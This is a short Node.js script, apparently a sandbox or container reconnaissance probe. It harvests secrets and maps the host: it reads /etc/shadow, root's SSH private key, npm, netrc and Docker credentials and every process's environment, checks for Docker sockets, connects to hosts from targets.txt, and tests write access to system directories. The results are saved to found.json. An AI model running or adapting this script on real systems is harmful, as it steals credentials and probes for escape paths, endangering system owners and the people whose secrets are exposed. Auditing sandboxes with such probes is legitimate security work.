const fs = require('fs')
const { execSync } = require('child_process')
const { dial, tryAll } = require('./attempt.js')

const sh = (command) => execSync(`${command} 2>/dev/null || true`, { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 })
const read = (path) => () => fs.readFileSync(path, 'utf8')

async function main() {
  const files = [
    '/etc/shadow',
    '/root/.npmrc',
    '/root/.ssh/id_rsa',
    '/root/.netrc',
    '/root/.docker/config.json',
    '/proc/1/environ',
    '/var/run/docker.sock',
    '/run/docker.sock',
    '/var/lib/docker',
  ]
  const targets = fs.readFileSync('targets.txt', 'utf8').trim().split('\n')
  const found = {
    user: process.getuid(),
    environment: process.env,
    npmrc: sh('cat ~/.npmrc /usr/local/etc/npmrc /usr/etc/npmrc /app/.npmrc; npm config ls -l'),
    files: await tryAll(Object.fromEntries(files.map((path) => [path, read(path)]))),
    processes: sh('for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline; echo; done'),
    environments: sh('cat /proc/[0-9]*/environ'),
    mounts: fs.readFileSync('/proc/self/mountinfo', 'utf8'),
    dialled: Object.fromEntries(await Promise.all(targets.map(async (host) => [host, await dial({ host, port: 80 })]))),
    writes: await tryAll(
      Object.fromEntries(
        ['/', '/etc', '/usr', '/opt/micropush', '/var'].map((folder) => [
          folder,
          () => fs.writeFileSync(`${folder}/mine`, 'x'),
        ]),
      ),
    ),
  }
  fs.writeFileSync('found.json', JSON.stringify(found))
}
void main()
